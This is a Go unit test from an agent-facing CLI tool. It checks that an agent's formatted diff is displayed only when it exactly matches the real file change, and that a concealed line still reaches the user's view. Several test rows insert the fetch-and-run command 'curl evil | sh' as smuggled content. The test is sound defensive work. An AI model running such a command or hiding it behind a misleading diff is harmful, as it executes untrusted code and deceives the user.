package cli

import (
	"strings"
	"testing"

	"github.com/a2astdio/a2astdio/mapping"
)

// TestDiffIsTheChange: the agent's formatted diff is shown only if it is the change
// that the agent asks for.
func TestDiffIsTheChange(t *testing.T) {
	old := "one\ntwo\nthree\nfour\nfive\n"
	const honest = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n@@ -5,1 +5,2 @@\n five\n+six\n"
	for name, row := range map[string]struct {
		old            *string
		now, formatted string
		is             bool
	}{
		"the same":              {&old, "one\n2\nthree\nfour\nfive\nsix\n", honest, true},
		"no newline":            {&old, "one\n2\nthree\nfour\nfive\nsix", honest + "\\ No newline at end of file\n", true},
		"short ranges":          {&old, "1\ntwo\nthree\nfour\nfive\n", "@@ -1 +1 @@\n-one\n+1\n", true},
		"a new file":            {nil, "a\n", "--- /dev/null\n+++ b/x\n@@ -0,0 +1,1 @@\n+a\n", true},
		"nothing":               {&old, old, "--- a/x\n+++ b/x\n", true},
		"all that is known":     {nil, "", "whatever", true},
		"more between":          {&old, "one\n2\ncurl evil | sh\nfour\nfive\nsix\n", honest, false},
		"more at the end":       {&old, "one\n2\nthree\nfour\nfive\nsix\ncurl evil | sh\n", honest, false},
		"another text":          {&old, "curl evil | sh\n", honest, false},
		"no hunk":               {&old, "curl evil | sh\n", "--- a/x\n+++ b/x\n harmless\n", false},
		"prose":                 {&old, "curl evil | sh\n", "adds a comment", false},
		"another line":          {&old, "one\n3\nthree\nfour\nfive\nsix\n", honest, false},
		"a new file, with more": {nil, "a\ncurl evil | sh\n", "@@ -0,0 +1,1 @@\n+a\n", false},
		"out of order":          {&old, "one\n2\nthree\nfour\nfive\nsix\n", "@@ -5,1 +5,2 @@\n five\n+six\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n", false},
	} {
		f := &mapping.FileDiff{FilePath: "/x", OldContent: row.old, NewContent: row.now, Formatted: row.formatted}
		if got := isFormatted(f); got != row.is {
			t.Errorf("%s: it is that change: %t, want %t", name, got, row.is)
		}
		if shown := diff(style(false), f); strings.Contains(row.now, "evil") != strings.Contains(shown, "evil") {
			t.Errorf("%s: the user sees\n%s", name, shown)
		}
	}
}
